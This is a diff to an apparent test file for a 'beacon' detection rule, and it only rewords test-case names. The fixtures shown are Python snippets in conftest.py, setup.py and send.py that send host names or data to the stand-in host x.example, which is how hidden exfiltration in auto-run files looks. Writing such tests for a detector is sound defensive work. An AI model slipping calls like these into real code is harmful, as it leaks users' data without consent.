@@ -9,7 +9,7 @@ ruleCases(beacon, {
       text: 'import requests\nrequests.get("https://x.example/i", params={"h": host})\n',
     },
     {
-      name: 'tests that are collected',
+      name: 'collected tests',
       path: 'conftest.py',
       text: 'import urllib.request as u\nu.urlopen(u.Request(f"https://x.example/{n}"))\n',
     },
@@ -26,12 +26,12 @@ ruleCases(beacon, {
       text: 'import requests\ndef send(d):\n    requests.post("https://x.example", json=d)\n',
     },
     {
-      name: 'a program that is started by itself',
+      name: 'a program that is started on its own',
       path: 'setup.py',
       text: 'import requests\nif __name__ == "__main__":\n    requests.post("https://x.example", json=d)\n',
     },
     {
-      name: 'a script of another name',
+      name: 'a script with another name',
       path: 'send.py',
       text: 'import requests\nrequests.post("https://x.example", json=d)\n',
     },
